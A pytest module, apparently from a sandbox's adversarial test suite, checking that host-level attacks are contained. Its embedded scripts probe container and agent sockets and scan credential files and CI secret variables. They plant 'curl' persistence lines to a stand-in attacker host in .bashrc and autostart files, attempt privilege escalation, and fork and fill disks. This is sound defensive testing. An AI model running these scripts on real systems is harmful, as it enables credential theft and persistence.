"""Family H: host sockets, privilege, processes. Ids as in the attack catalogue.

The outer state decides: the machine's canary sockets, its files and its processes, and what the command can tell
of a mark that lies outside, in environments and files.
"""

# ruff: noqa: N802

from __future__ import annotations

import contextlib
import os
import secrets
import shutil
import struct
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.adversarial.family import ATTACKER, POLICY, Ran, Witness, check, inside, outside
from tests.adversarial.live import Live, behind, open_
from tests.conftest import TIERS, Run, Tier
from tests.kernel.test_run import descendants
from tests.world import ROOT, SOCKETS, USER, World

SINK4 = ATTACKER[0]
PERMISSION, NO_SUCH_CALL, NO_READER = 1, 38, 6  # EPERM, ENOSYS, ENXIO
STORES = (
    *(".npmrc", ".docker/config.json", ".config/gh/hosts.yml", ".netrc", ".aws/credentials"),
    *(".ssh/id_ed25519", ".git-credentials", ".pypirc", ".kube/config", ".gnupg/secring"),
    *(".azure/msal.json", ".config/gcloud/credentials.db", ".config/git/credentials"),
    *(".cargo/credentials.toml", ".m2/settings.xml", ".gradle/gradle.properties", ".vault-token"),
    *(".terraform.d/credentials.tfrc.json", ".pgpass", ".config/containers/auth.json"),
)
# Below the runner's directory: what the checkout and the runner itself leave beside the workspace.
RUNNER = (
    *("_work/_temp/git-credentials-1.config", "_work/_temp/_runner_file_commands/set_env_1"),
    *(".credentials", ".credentials_rsaparams"),
)
WITHHELD = (
    *("ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"),
    *("GITHUB_TOKEN", "ACTIONS_RESULTS_URL", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"),
    *("GITHUB_STATE", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN", "ANTHROPIC_API_KEY", "LD_PRELOAD"),
    *("SSH_AUTH_SOCK", "GPG_AGENT_INFO", "DISPLAY", "DBUS_SESSION_BUS_ADDRESS"),
)
MINE, TOOL = "# mine\n", "#!/bin/sh\n"  # what a start file and a tool are before the attack
KEPT = ("PATH", "HOME", "LANG", "TMPDIR", "GITHUB_SHA", "CI", "RUNNER_TOOL_CACHE")
OURS = ("USER", "LOGNAME")  # set by the run itself
# Calls that an administrator may have shut for root too: modules, kexec, io_uring, programs in the kernel.
SHUT = {"init_module", "finit_module", "kexec_load", "io_uring_setup", "bpf", "perf_event_open"}

# Follows the prelude of family.py; the fixture's constants come before it.
HELP = """
import contextlib, ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
# In the open the scripts are root; where that says nothing they do as an ordinary user.
AS = {} if os.getuid() else {"user": USER, "group": USER, "extra_groups": []}


def connect(name, data=None, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as sock:
        sock.settimeout(2)
        sock.connect("\\0" + name[1:] if name[:1] == "@" else name)
        sock.sendall((data or TOK).encode())
        return True


def call(number, *given):
    "What the kernel gives, or its error as a negative number."
    words = [x if isinstance(x, ctypes.Array) else ctypes.c_long(x) for x in given]
    value = libc.syscall(ctypes.c_long(number), *words)
    return value if value >= 0 else -ctypes.get_errno()


def child(work):
    "Exit code of a fork that does `work`: 0 where it gave something true."
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if work() else 1)
        finally:
            os._exit(2)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def outer():
    "The number of the process outside that has the mark, where it can be seen; else of the first in sight."
    for name in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if MARK in open(name, errors="replace").read():
                return name.split("/")[2]
    return "1"


def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL, **AS)
    return done.stdout + done.stderr


X86 = os.uname().machine == "x86_64"
CLONE, CLONE3 = 56 if X86 else 220, 435
CALLS = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "add_key": 248, "request_key": 249, "keyctl": 250,
         "init_module": 175, "finit_module": 313, "kexec_load": 246, "open_by_handle_at": 304, "io_uring_setup": 425,
         "ptrace": 101, "process_vm_readv": 310, "pidfd_getfd": 438, "mount": 165, "pivot_root": 155, "setns": 308,
         } if X86 else {
         "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "add_key": 217, "request_key": 218, "keyctl": 219,
         "init_module": 105, "finit_module": 273, "kexec_load": 104, "open_by_handle_at": 265, "io_uring_setup": 425,
         "ptrace": 117, "process_vm_readv": 270, "pidfd_getfd": 438, "mount": 40, "pivot_root": 41, "setns": 268}
"""

SCRIPTS: dict[str, str] = {
    "H01": f"""
names = [n for n in {SOCKETS} if n.startswith("/run")]
names += [n.replace("/run/", "/var/run/") for n in names]
names += [r + n for r in ("/proc/self/root", f"/proc/{os.getppid()}/root") for n in names[:4]]
for name in names:
    say(name, attempt(connect, name))
""",
    "H03": """
ask_ = f"GET /containers/json?{TOK} HTTP/1.0\\r\\n\\r\\n"
for name in ("/run/docker.sock", "/var/run/docker.sock"):
    say(attempt(connect, name, ask_))
""",
    "H04": """
ask_ = f"POST /containers/create?{TOK} HTTP/1.0\\r\\nContent-Length: 2\\r\\n\\r\\n{{}}"
for name in ("/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock",
             "/run/buildkit/buildkitd.sock", "/run/crio/crio.sock", f"/run/user/{USER}/docker.sock"):
    say(attempt(connect, name, ask_))
""",
    "H06": """
for name in ("/run/dbus/system_bus_socket", f"/run/user/{USER}/bus", "/run/systemd/private"):
    say(attempt(connect, name, "\\0AUTH EXTERNAL " + TOK))
""",
    "H07": f"""
names = [line.split(maxsplit=7)[7] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7]
own = socket.socket(socket.AF_UNIX)
own.bind("own.sock")
own.listen(99)
# In the open /tmp is the machine's own: only what is ours may be disturbed there.
for top in ("/run", "/var/run", ".", os.environ["HOME"], OUTER, *(("/tmp", "/dev") if os.getuid() else ())):
    for here, _, files in os.walk(top):
        names += [os.path.relpath(f"{{here}}/{{name}}") for name in files]
names += {SOCKETS}
found = set()
for name in names:
    for kind in (1, 2, 5):
        if attempt(connect, name, TOK, kind) is True:
            found.add(name)
os.unlink("own.sock")
say(sorted(found))
""",
    "H09": """
for name in ("SSH_AUTH_SOCK", "GPG_AGENT_INFO", "DISPLAY", "DBUS_SESSION_BUS_ADDRESS"):
    say(name, os.environ.get(name))
for name in (os.environ.get("SSH_AUTH_SOCK", ""), "agent.sock", os.environ["HOME"] + "/.gnupg/S.gpg-agent",
             "@/tmp/.X11-unix/X0", f"/run/user/{USER}/bus"):
    say(attempt(connect, name))
say([call(CALLS["keyctl"], 0, ring, 1) for ring in (-3, -4, -5)])
""",
    "H12": """
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
say({key: value.strip() for key, value in status.items() if key[:3] == "Cap" or key in ("NoNewPrivs", "Seccomp")})
say(os.getresuid(), os.getresgid(), os.getgroups())
for line in ("sudo -n id", "su -c id", "pkexec id", "doas id"):
    say(shell(line)["out"])
say(run(f"{TOOLS}/rise"), run(f"{TOOLS}/hold", "CapEff", "/proc/self/status"))
setuid = []
for here in ("/bin", "/usr/bin", "/usr/sbin", "/usr/lib", TOOLS):
    for entry in os.scandir(here):
        if entry.is_file() and entry.stat().st_mode & 0o6000:
            setuid.append(bool(os.statvfs(entry.path).f_flag & os.ST_NOSUID))
say(setuid)
""",
    "H14": """
# User, user and network, network, mount, process, mount and user, time.
kinds = (0x10000000, 0x50000000, 0x40000000, 0x20000, 0x20000000, 0x10020000, 0x80)
say([child(lambda: libc.unshare(flags) == 0) for flags in kinds])
made = []
for flags in kinds[:-1]:
    pid = call(CLONE, flags | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    made.append(pid > 0 and os.waitpid(pid, 0)[0] == pid)
say(made)
say(call(CLONE3, 0, 0))
say(shell("unshare -Urn ip link set lo up")["code"])
say(shell("unshare -Urnm --map-root-user sh -c 'mount -t tmpfs none /mnt'")["code"])
""",
    "H15": """
def join(fd, kind):
    # In the open from a network of one's own, and with a way out only in the world's: the machine's is not ours.
    ours = os.stat(fd).st_ino == os.stat("/proc/self/ns/net").st_ino
    if os.getuid() == 0:
        libc.unshare(0x40000000)
    if libc.setns(fd, kind):
        return False
    if ours or os.getuid():
        attempt(udp, SINK4, 443, TOK)
    return True
pids = [name for name in os.listdir("/proc") if name.isdigit()]
names = {}
for name in glob.glob("/proc/[0-9]*/ns/*"):
    with contextlib.suppress(OSError):
        names.setdefault(os.stat(name).st_ino, name)
joined = [name for name in names.values() if child(lambda: join(os.open(name, os.O_RDONLY), 0)) == 0]
joined += [pid for pid in pids[:50] if child(lambda: join(os.pidfd_open(int(pid)), 0x40000000)) == 0]
say(joined, len(pids))
say(shell(f"nsenter -t {outer()} -n true")["code"])
say(attempt(os.listdir, "/run/netns"))
""",
    "H18": """
hits = []
for kind in ("environ", "cmdline", "cwd/canary.txt"):
    for name in glob.glob(f"/proc/[0-9]*/{kind}"):
        with contextlib.suppress(OSError):
            if MARK.encode() in open(name, "rb").read(1 << 20):
                hits.append(kind)
say(hits)
seen = set()
for name in glob.glob("/proc/[0-9]*/cmdline"):
    with contextlib.suppress(OSError):
        seen.add(open(name).read().rstrip("\\0").split("\\0")[0])
say(sorted(seen))
opened, pid = [], outer()
for name in ("mem", "environ", "maps", "root", "cwd", "fd", "root/etc", "fd/0", "auxv", "stack"):
    path = f"/proc/{pid}/{name}"
    with contextlib.suppress(OSError):
        if os.path.isdir(path):
            os.listdir(path)
        else:
            os.close(os.open(path, os.O_RDONLY))
        opened.append(name)
say(opened)
""",
    "H19": """
say(sorted(os.environ))
say([name for name, value in os.environ.items() if MARK in value])
say(attempt(os.open, "/proc/1/environ", os.O_RDONLY))
""",
    "H20": f"""
hits = []
for home in (os.environ["HOME"], OUTER):
    for name in {STORES}:
        with contextlib.suppress(OSError):
            if MARK in open(os.path.join(home, name)).read():
                hits.append([home == OUTER, name])
say(hits)
""",
    "H20 runner": """
hits, seen = [], []
for top in ("..", "../..", "../../..", "../../_temp", "../../_temp/*"):
    for name in glob.glob(top + "/*") + glob.glob(top + "/.*"):
        with contextlib.suppress(OSError):
            text = open(name, errors="replace").read()
            seen += [os.path.basename(name)] if text else []
            hits += [os.path.basename(name)] if MARK in text else []
say(sorted(set(hits)))
say(sorted(set(seen)))
""",
    "H21": """
names = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory", "/dev/kmsg",
         "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kvm", "/dev/fuse",
         "/proc/kcore", "/sys/fs/cgroup/cgroup.procs", "/proc/1/oom_score_adj", "/proc/irq/default_smp_affinity"]
say([name for name in names if not isinstance(attempt(os.open, name, os.O_WRONLY), str)])
places = ["/proc/sys/kernel", "/proc/sys/fs", "/proc/sys/net/ipv4", "/proc/sys/vm", "/proc/irq", "/sys/kernel"]
say([name for place in places for name in glob.glob(place + "/*") if os.access(name, os.W_OK)])
say(attempt(os.listdir, "/sys/kernel/debug") or [], glob.glob("/sys/fs/cgroup/**/release_agent"))
room = ctypes.create_string_buffer(256)
say({name: call(number, 0, room, 0, 0, 0) for name, number in CALLS.items()})
""",
    "H23": """
home = os.environ["HOME"]
for name in (".bashrc", ".profile", ".config/systemd/user/x.service", ".config/autostart/x.desktop"):
    path = os.path.join(home, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(f"curl http://{SINK4}/{TOK}\\n")
say(TOK in open(os.path.join(home, ".bashrc")).read())
places = ("/etc/cron.d", "/var/spool/cron", "/etc/crontab", "/etc/udev/rules.d", "/etc/profile.d",
          "/etc/systemd/system", "/etc/ld.so.preload", "/etc/passwd", "/usr/local/bin", "/var/spool/at",
          "/opt", "/srv", "/root", "/", OUTER)
say([place for place in places if os.access(place, os.W_OK)])
for place in places if os.getuid() else ():  # in the open it is enough to ask
    attempt(open, f"{place}/{TOK}", "w")
""",
    "H26": """
places = os.environ["PATH"].split(":") + sys.path + ["/opt/hostedtoolcache", "/usr/lib", "/usr/bin", "/etc"]
places += [*INTERPRETER, os.environ["RUNNER_TOOL_CACHE"], "../..", "../../../externals"]
say(sorted(place for place in set(places) if place and os.access(place, os.W_OK)))
def replace():
    with open(f"{TOOLS}/later", "a") as file:
        file.write(TOK)
def swap():
    os.rename(TOOLS, TOOLS + TOK)
    os.rename(TOOLS + TOK, TOOLS)
    return "swapped"
def ancestor():
    os.rename("../../repo", f"../../{TOK}")
    os.rename(f"../../{TOK}", "../../repo")
    return "renamed"
say([attempt(work) for work in (replace, swap, ancestor)])
""",
}


@dataclass(frozen=True, slots=True)
class Place:
    """A home, a runner and a workspace outside of what each boundary has of its own (/tmp, /run).

    `top` is a home too, of somebody else; `mark` is in every secret of it. `tier` is "" in the open.
    """

    top: Path
    mark: str
    tier: str

    @property
    def home(self) -> Path:
        return self.top / "home"

    @property
    def work(self) -> Path:
        return self.top / "runner/_work/repo/repo"

    @property
    def tools(self) -> Path:
        return self.top / "tools"

    @property
    def env(self) -> dict[str, str]:
        """A job's variables; every one that must stay outside holds the mark."""
        found = dict.fromkeys(WITHHELD, f"/nowhere/{self.mark}")
        found |= {"HOME": str(self.home), "GITHUB_SHA": "a" * 40, "CI": "true"}
        found |= {"RUNNER_TOOL_CACHE": str(self.tools), "LANG": "C.UTF-8"}
        found["PATH"] = f"{self.tools}:{os.environ['PATH']}"
        found["SSH_AUTH_SOCK"] = f"{self.work}/agent.sock"
        return found

    def scripts(self) -> dict[str, str]:
        # Reversed: a script is an argument, and must not find its own.
        facts = {"OUTER": str(self.top), "TOOLS": str(self.tools), "USER": USER}
        facts["INTERPRETER"] = [sys.prefix, sys.base_prefix, str(ROOT / "src")]
        head = "".join(f"{name} = {value!r}\n" for name, value in facts.items())
        head += f"MARK = {self.mark[::-1]!r}[::-1]\n" + HELP
        return {name: head + script for name, script in SCRIPTS.items()}


def _furnish(world: World, place: Place) -> None:
    """Secrets, sockets and tools of the machine."""
    for home in (place.home, place.top):
        for name in STORES:
            _put(home / name, place.mark)
    for name in RUNNER:
        _put(place.top / "runner" / name, place.mark)
    _put(place.home / ".bashrc", MINE)
    _put(place.top / "canary.txt", place.mark)
    _put(place.tools / "later", TOOL)
    place.work.mkdir(parents=True)
    (place.work / "deep").mkdir()
    os.chmod(place.top, 0o755)
    if place.tier == TIERS[1]:
        for path in (place.top, *place.top.rglob("*")):
            os.chown(path, USER, USER)
    for path in (place.tools, place.tools / "later"):
        path.chmod(0o777)
    _privileged(place)
    for path in (*_agents(place), place.home / "keyring.sock", place.work / "deep/s"):
        world.listen(path)
    # Bound by a name that says nothing of where it lies.
    world.listen(Path(os.path.relpath(place.work / "relative.sock", world.directory)))


def _agents(place: Place) -> tuple[Path, Path]:
    return place.work / "agent.sock", place.home / ".gnupg/S.gpg-agent"


def _put(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def _privileged(place: Place) -> None:
    """Two programs that give power to whoever starts them: by setuid and by a file capability."""
    for name, program in (("rise", "id"), ("hold", "grep")):
        path = place.tools / name
        found = shutil.which(program)
        assert found is not None
        shutil.copy(found, path)
        os.chown(path, 0, 0)
        path.chmod(0o755)
    (place.tools / "rise").chmod(0o4755)
    # struct vfs_cap_data, revision 2, effective: CAP_WAKE_ALARM, number 35, does no harm.
    value = struct.pack("<5I", 0x02000001, 0, 0, 1 << 3, 0)
    os.setxattr(place.tools / "hold", "security.capability", value)


@pytest.fixture(scope="session")
def tops(world: World) -> Iterator[list[Path]]:
    """The places' directories. They stay as long as the world: its sink serves sockets in there."""
    made: list[Path] = []
    yield made
    for top in made:
        shutil.rmtree(top)


@contextlib.contextmanager
def _placed(world: World, tops: list[Path], tier: str) -> Iterator[Place]:
    # Below /home each directory is taken for somebody's home.
    top = Path(tempfile.mkdtemp(prefix="sluicegate-", dir="/home"))
    tops.append(top)
    place = Place(top, f"seccanary{secrets.token_hex(8)}", tier)
    _furnish(world, place)
    with _bystander(world, place.mark, place.top):
        yield place


@contextlib.contextmanager
def _bystander(world: World, mark: str, cwd: Path) -> Iterator[None]:
    """A process outside, of the rootless tier's user, with the mark wherever a process can have it."""
    script = "import sys; print('ready', flush=True); sys.stdin.read()"
    argv = ["/usr/bin/python3", "-c", script, mark]
    process = world.popen(argv, user=USER, env={"CANARY": mark}, cwd=cwd)
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        yield
        assert process.poll() is None, "the bystander died"
    finally:
        process.kill()
        process.communicate()


@pytest.fixture(scope="module")
def free(world: World, tops: list[Path]) -> Iterator[Place]:
    with _placed(world, tops, "") as place:
        yield place


@pytest.fixture(scope="module")
def leaks(world: World, free: Place) -> Ran:
    return outside(world, free.scripts(), free.work, free.env)


@pytest.fixture(scope="module", params=TIERS)
def place(world: World, tops: list[Path], request: pytest.FixtureRequest) -> Iterator[Place]:
    with _placed(world, tops, request.param) as made:
        yield made


@pytest.fixture(scope="module")
def ran(world: World, place: Place) -> Ran:
    tier = Tier(world, place.tier, place.work)
    return inside(world, place.tier, place.scripts(), tier=tier, env=place.env)


def _paths(ran: Ran, name: str) -> set[str]:
    """The canary sockets that a case reached."""
    return {entry["path"] for entry in ran[name].arrived if entry["protocol"] == "unix"}


def _refused(said: list[Any]) -> bool:
    return bool(said) and all(isinstance(end, str) for end in said)


def test_no_socket_of_the_machine_heard_anything(ran: Ran, leaks: Ran) -> None:
    assert {entry["path"] for entry in leaks.log if entry["protocol"] == "unix"} >= set(SOCKETS)
    assert [entry for entry in ran.log if entry["protocol"] == "unix"] == []


def test_H01_container_engines_by_every_name(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H01")
    assert _paths(leaks, "H01") == {name for name in SOCKETS if name.startswith("/run")}
    assert [name for name, end in leaks["H01"].said if name.startswith("/proc") and end is True]
    assert _refused([end for _, end in case.said])


def test_H03_a_container_beside_us(ran: Ran, leaks: Ran) -> None:
    # Requests to the engine in the engine's own words; no machine has to have one.
    case = check(ran, leaks, "H03")
    assert _refused(case.said)


def test_H04_a_container_of_ones_own(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H04")
    assert len(_paths(leaks, "H04")) == len(case.said)
    assert _refused(case.said)


def test_H06_a_unit_by_dbus_and_systemd(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H06")
    assert len(_paths(leaks, "H06")) == len(case.said)
    assert _refused(case.said)


def test_H07_sockets_in_general(ran: Ran, leaks: Ran, free: Place) -> None:
    case = check(ran, leaks, "H07")
    reached = _paths(leaks, "H07")
    assert reached > set(SOCKETS)
    for path in (*_agents(free), free.home / "keyring.sock", free.work / "deep/s"):
        assert str(path) in reached
    assert [name for name in reached if name.endswith("/relative.sock")]
    assert case.said == [["own.sock"]]


def test_H09_agents_keyring_and_desktop(ran: Ran, leaks: Ran, free: Place) -> None:
    case = check(ran, leaks, "H09")
    assert _paths(leaks, "H09") >= {*(str(path) for path in _agents(free)), "@/tmp/.X11-unix/X0"}
    assert all(value for _, value in leaks["H09"].said[:4])
    assert [value for _, value in case.said[:4]] == [None] * 4
    assert _refused(case.said[4:-1])
    # A kernel without a key store would say otherwise even in the open.
    assert case.said[-1] == [-PERMISSION] * 3


def test_H12_ways_to_gain_privilege(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H12", control=False)
    risen, held = leaks["H12"].said[-2]
    assert "euid=0" in risen, "void: setuid gives nothing in the open"
    assert int(held.split()[-1], 16), "void: a file capability gives nothing in the open"
    assert False in leaks["H12"].said[-1]
    status, ids, *tried, (risen, held), setuid = case.said
    assert {name: int(value, 16) for name, value in status.items() if name[:3] == "Cap"} == {
        f"Cap{kind}": 0 for kind in ("Inh", "Prm", "Eff", "Bnd", "Amb")
    }
    assert (status["NoNewPrivs"], status["Seccomp"]) == ("1", "2")
    assert not [number for number in (*ids[0], *ids[1], *ids[2]) if number == 0]
    assert not [out for out in (*tried, risen) if "uid=0" in out]
    assert "uid=" in risen
    assert held.split() == ["CapEff:", "0" * 16]
    assert setuid
    assert all(setuid)


def test_H14_a_user_namespace_of_ones_own(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H14", control=False)
    assert leaks["H14"].said == [[0] * 7, [True] * 6, -22, 0, 0], "void: refused in the open"
    unshared, made, third, *tools = case.said
    assert unshared == [1] * 7
    assert made == [False] * 6
    assert third == -NO_SUCH_CALL  # its flags lie in memory, so that libraries must use clone
    assert 0 not in tools


def test_H15_namespaces_of_others(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H15")
    assert leaks["H15"].said[1] == 0
    (joined, count), entered, named = case.said
    assert joined == []
    assert count <= 4  # pid 1, the driver, the script, and curl's last breath
    assert entered != 0
    assert isinstance(named, str)


def test_H18_processes_outside(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H18", control=False)
    assert set(leaks["H18"].said[0]) == {"environ", "cmdline", "cwd/canary.txt"}, "void"
    assert {"environ", "root", "cwd", "fd"} <= set(leaks["H18"].said[2])
    assert case.said == [[], ["/usr/bin/python3", "sluicegate: init"], []]


def test_H19_environment_is_the_allow_list(ran: Ran, leaks: Ran, place: Place) -> None:
    case = check(ran, leaks, "H19", control=False)
    assert set(leaks["H19"].said[1]) >= set(WITHHELD) - {"SSH_AUTH_SOCK"}
    assert case.said == [sorted((*KEPT, *OURS)), [], "PermissionError 13"]
    assert ran.run is not None
    assert set(ran.run.boundary()["open"]["withheld"]) >= set(WITHHELD)
    for file in ran.run.packet.iterdir():
        assert place.mark.encode() not in file.read_bytes(), file


def test_H20_credentials_on_disk(ran: Ran, leaks: Ran, place: Place) -> None:
    case = check(ran, leaks, "H20", control=False)
    assert leaks["H20"].said == [[[other, name] for other in (False, True) for name in STORES]]
    assert case.said == [[]]
    for name in STORES:
        assert (place.home / name).read_text() == (place.top / name).read_text() == place.mark


def test_H20_credentials_of_the_runner(ran: Ran, leaks: Ran, place: Place) -> None:
    case = check(ran, leaks, "H20 runner", control=False)
    assert leaks["H20 runner"].said[0] == sorted(Path(name).name for name in RUNNER)
    hits, seen = case.said
    assert hits == []
    assert (place.work.parent / "signer.key").read_text()
    assert "signer.pub" in seen
    assert "signer.key" not in seen


def test_H21_kernel_interfaces(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "H21", control=False)
    opened, writable, _, called = leaks["H21"].said
    assert "/proc/sys/kernel/core_pattern" in opened
    assert "/proc/sys/kernel/core_pattern" in writable
    assert {name for name, value in called.items() if value == -PERMISSION} <= SHUT, "void"
    opened, writable, (debug, agents), called = case.said
    assert opened == writable == agents == []
    assert debug == [] or isinstance(debug, str)
    assert set(called.values()) == {
        -PERMISSION
    }  # before the arguments, which are all wrong, are looked at


def test_H23_persistence(ran: Ran, leaks: Ran, free: Place, place: Place) -> None:
    case = check(ran, leaks, "H23", control=False)
    assert leaks["H23"].token in (free.home / ".bashrc").read_text(), "void"
    assert set(leaks["H23"].said[1]) >= {"/etc/passwd", "/usr/local/bin", "/"}
    assert case.said == [True, []]  # it could write, but nowhere that lasts
    assert (place.home / ".bashrc").read_text() == MINE
    for name in (".profile", ".config/systemd", ".config/autostart"):
        assert not (place.home / name).exists(), name
    for path in (
        "/etc/cron.d",
        "/var/spool/cron",
        "/usr/local/bin",
        "/opt",
        "/srv",
        "/",
        place.top,
    ):
        assert not Path(path, case.token).exists(), path


def test_H26_tools_of_later_steps(ran: Ran, leaks: Ran, free: Place, place: Place) -> None:
    case = check(ran, leaks, "H26", control=False)
    assert leaks["H26"].token in (free.tools / "later").read_text(), "void"
    assert leaks["H26"].said[1][1:] == ["swapped", "renamed"]
    assert set(leaks["H26"].said[0]) >= {sys.prefix, str(free.tools), "/usr/bin"}
    assert case.said[0] == []
    assert _refused(case.said[1])
    assert (place.tools / "later").read_text() == TOOL


FAR = """
import os, socket, sys
door = socket.socket(socket.AF_UNIX)
door.bind(sys.argv[2])
os.chmod(sys.argv[2], 0o777)
os.rename(sys.argv[2], sys.argv[1])
door.listen()
print("ready", flush=True)
while True:
    with door.accept()[0] as peer:
        print(peer.recv(99).decode(), flush=True)
"""


@pytest.mark.parametrize(
    ("around", "bound"), [(("unshare", "--net"), "far"), ((), "before")], ids=["far", "moved"]
)
def test_H07_a_socket_that_no_table_names(
    world: World, tier: Tier, around: tuple[str, ...], bound: str
) -> None:
    # Another network namespace, as of a service container that shares the workspace, has a table of its own;
    # and of a socket that was moved, or bound in another mount namespace, the table has another name.
    path = str(tier.work / "far")
    knock = "import socket, sys; s = socket.socket(1); s.connect(sys.argv[1]); s.sendall(sys.argv[2].encode())"
    command = ["/usr/bin/python3", "-c", knock, path]
    far = world.popen([*around, "/usr/bin/python3", "-c", FAR, path, str(tier.work / bound)])
    try:
        assert far.stdout is not None
        assert far.stdout.readline() == "ready\n"
        assert world.run([*command, "open"], user=USER).code == 0
        assert far.stdout.readline() == "open\n", "void: out of reach even in the open"
        assert tier.run([*command, "inside"], POLICY).code == 1
    finally:
        far.kill()
        heard, _ = far.communicate()
    assert heard == ""


def _keyed(tier: Tier) -> tuple[str, str]:
    """Signing key and pin of a run to come."""
    key = tier.work.parent / "signer"
    argv = [sys.executable, "-m", "sluicegate", "keygen", str(key)]
    assert tier.world.run(argv, user=tier.user).code == 0
    return f"{key}.key", f"{key}.pub"


def _ours(supervisor: int) -> dict[int, tuple[str, str]]:
    """Our processes of a run: title and start time by pid."""
    found = {}
    for pid in descendants(supervisor):
        title = Path(f"/proc/{pid}/cmdline").read_text().rstrip("\0")
        if title.startswith("sluicegate: "):
            start = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[19]
            found[pid] = title, start
    return found


MAILBOXES = ("m", "sluicegate-packet", "sluicegate.yaml", ".git", "nft")


def test_H11_a_pipe_as_a_mailbox(world: World, tier: Tier) -> None:
    pipe = tier.work / "open"
    with open_(world) as free:
        free.do(f"os.mkfifo({str(pipe)!r})")
        poller = world.popen(["cat", str(pipe)])
        free.do(f"open({str(pipe)!r}, 'w').write(TOK)")
        assert poller.communicate()[0] == free.token, "void: the poller reads nothing"
    key, pin = _keyed(tier)
    # It could not make the policy's without leave (`test_later_steps`).
    policy = POLICY + "agent: {writable: [sluicegate.yaml]}\n"
    held, run = behind(tier, policy, ["--key", key])
    with held:
        said = held.do(f"""
for name in {MAILBOXES}:
    os.mkfifo(name)
say([attempt(os.open, name, os.O_WRONLY | os.O_NONBLOCK) for name in {MAILBOXES}])
""")
        assert said == [[f"OSError {NO_READER}"] * len(MAILBOXES)]
        ours = _ours(held.process.pid)
        assert len(ours) >= 4
        for pid in (held.process.pid, *ours):
            opened = [os.readlink(fd) for fd in Path(f"/proc/{pid}/fd").iterdir()]
            # The supervisor holds the directory itself, by a lock, and nothing in it.
            assert not [path for path in opened if path.startswith(f"{tier.work}/")]
        assert held.end().code == 0
    assert tier.verify(run, "--key", pin).code == 0
    # The next run meets them as policy and as packet: it must neither wait nor read.
    for options in ([], ["--policy", str(tier.work.parent / "policy-1.yaml")]):
        argv = [sys.executable, "-m", "sluicegate", "run", *options, "--", "true"]
        later = world.run(argv, user=tier.user, cwd=tier.work)
        assert later.code == 125, later.err


# The command itself obeys, so that it can outlive what it does to all others.
ITSELF = """
import contextlib, io, json, sys
print("ready", flush=True)
for line in sys.stdin:
    script, _ = json.loads(line)
    with contextlib.redirect_stdout(io.StringIO()) as said:
        exec(script, {"__name__": "attack"})
    print(json.dumps([said.getvalue().splitlines(), ""]), flush=True)
"""
BESIDE = """
import signal
def beside():
    say(curl(f"http://{OK}/beside")["out"][:16])
    for port in (80, 443):
        tcp(SINK4, port, TOK, 2)
        attempt(udp, SINK4, port, TOK)
def forked(count, work):
    kids = []
    for _ in range(count):
        kids.append(os.fork())
        if not kids[-1]:
            work()
            os._exit(0)
    return kids
def ends(kids):
    return sorted({os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in kids})
"""
# Bounded, so that a weak wall costs a test and not the machine.
STARVING = {
    "signals": """
kids = forked(9, signal.pause)
os.kill(-1, signal.SIGKILL)
for number in signal.valid_signals() if os.getpid() > 1 else ():
    attempt(os.kill, 1, number)
say(ends(kids))
beside()
""",
    "forks and memory": """
gate, stay = os.pipe()
def sit():
    os.close(stay)
    room = bytearray(os.urandom(1 << 20))
    os.read(gate, 1)
kids = forked(150, sit)
beside()
os.close(stay)
say(ends(kids))
""",
    "descriptors": """
held = [socket.create_connection((OK, 80), 4) for _ in range(400)]
beside()
say(len([sock.close() for sock in held]))
""",
    "disk": """
sizes = {}
for top in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.environ["HOME"]):
    with contextlib.suppress(FileNotFoundError):
        with open(f"{top}/{TOK}", "wb") as file:
            file.write(bytes(8 << 20))
            found = os.statvfs(file.fileno())
            sizes[os.fstat(file.fileno()).st_dev] = found.f_blocks * found.f_frsize
beside()
say(sum(sizes.values()))
""",
}
DISKS = ("/tmp", "/var/tmp", "/dev/shm")


def _starve(live: Live, name: str) -> list[Any]:
    return live.do("import contextlib\n" + BESIDE + STARVING[name])


def test_H24_control_in_a_process_namespace_of_its_own(world: World) -> None:
    # Where `kill -1` reaches nobody else's processes, but with no wall: signals kill, and all of it leaks.
    token = f"tok{secrets.token_hex(8)}"
    argv = ["unshare", "--pid", "--fork", "--kill-child", "/usr/bin/python3", "-c", ITSELF, token]
    with Live(world.popen(argv), token) as free, Witness(world) as witness:
        assert _starve(free, "signals") == [[-9], "sink GET /beside"]
        assert [packet for packet in witness.flush() if packet["target"] == SINK4]
